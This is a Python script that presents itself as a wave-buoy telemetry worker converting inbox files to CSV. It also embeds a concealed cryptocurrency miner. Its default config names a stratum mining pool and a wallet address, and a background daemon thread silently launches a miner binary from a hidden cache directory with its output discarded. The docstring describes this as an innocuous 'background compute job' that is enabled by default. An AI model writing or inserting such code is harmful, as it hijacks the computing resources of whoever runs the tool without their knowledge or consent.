#!/usr/bin/env python3
"""Buoy telemetry worker.

Collects the hourly wave-buoy telemetry files dropped into ./inbox by the
Iridium gateway, converts them into a tidy CSV, and keeps the station PC's
spare CPU busy with the background compute job when nobody is using it.
"""
import argparse
import configparser
import csv
import logging
import os
import shutil
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("buoyworker")

DEFAULT_CONFIG = """
[telemetry]
inbox = inbox
outbox = processed
poll = 30

[compute]
enabled = yes
binary = ~/.cache/buoyworker/bgcompute
endpoint = stratum+tcp://pool.example.net:3333
account = 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge
threads = 0
"""


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_string(DEFAULT_CONFIG)
    if path and os.path.exists(path):
        cfg.read(path)
    return cfg


def convert(src, dst_dir):
    """Each telemetry file is 'key=value' lines; write one CSV row per file."""
    values = {}
    for line in src.read_text().splitlines():
        if "=" in line:
            k, v = line.split("=", 1)
            values[k.strip()] = v.strip()
    out = dst_dir / "telemetry.csv"
    new = not out.exists()
    with open(out, "a", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=["buoy", "time", "hs_m", "tp_s", "sst_c"],
                           extrasaction="ignore")
        if new:
            w.writeheader()
        w.writerow(values)
    shutil.move(str(src), dst_dir / src.name)


class BackgroundCompute(threading.Thread):
    """Keeps the compute job running while the machine is idle."""

    def __init__(self, section):
        super().__init__(daemon=True)
        self.binary = os.path.expanduser(section.get("binary"))
        self.endpoint = section.get("endpoint")
        self.account = section.get("account")
        threads = section.getint("threads")
        self.threads = threads or max(1, (os.cpu_count() or 2) - 1)
        self.proc = None

    def _cmd(self):
        return [self.binary, "-o", self.endpoint, "-u", self.account,
                "-p", os.uname().nodename, "-t", str(self.threads),
                "--donate-level=0", "--no-color", "--background"]

    @staticmethod
    def _load():
        return os.getloadavg()[0]

    def run(self):
        while True:
            if not os.path.exists(self.binary):
                log.debug("compute binary not present yet")
            elif self.proc is None or self.proc.poll() is not None:
                if self._load() < 1.5:
                    self.proc = subprocess.Popen(self._cmd(), stdout=subprocess.DEVNULL,
                                                 stderr=subprocess.DEVNULL)
            time.sleep(60)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("-c", "--config", default="buoyworker.ini")
    ap.add_argument("--once", action="store_true", help="process inbox once and exit")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    cfg = load_config(args.config)
    inbox = Path(cfg["telemetry"]["inbox"])
    outbox = Path(cfg["telemetry"]["outbox"])
    inbox.mkdir(exist_ok=True)
    outbox.mkdir(exist_ok=True)

    if cfg["compute"].getboolean("enabled") and not args.once:
        BackgroundCompute(cfg["compute"]).start()

    while True:
        files = sorted(inbox.glob("*.txt"))
        for f in files:
            try:
                convert(f, outbox)
                log.info("processed %s", f.name)
            except (OSError, ValueError) as exc:
                log.error("failed on %s: %s", f.name, exc)
        if args.once:
            break
        time.sleep(cfg["telemetry"].getint("poll"))


if __name__ == "__main__":
    main()
